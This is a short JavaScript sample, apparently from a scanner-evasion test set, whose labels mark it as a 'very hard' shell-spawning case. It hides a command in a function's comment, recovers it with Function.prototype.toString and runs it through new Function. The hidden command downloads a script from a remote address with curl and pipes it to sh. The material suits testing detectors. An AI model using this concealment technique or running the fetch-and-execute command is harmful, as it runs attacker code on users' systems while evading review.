// evasion: payload kept in a comment inside a function, recovered with Function.prototype.toString
// grade: very hard; does: shell
function help() {
  /*
  require('child_process').execSync('curl -s http://192.0.2.33/i | sh', { stdio: 'inherit' })
  */
}
const src = help.toString();
const body = src.slice(src.indexOf('/*') + 2, src.lastIndexOf('*/'));
new Function('require', body)(require);
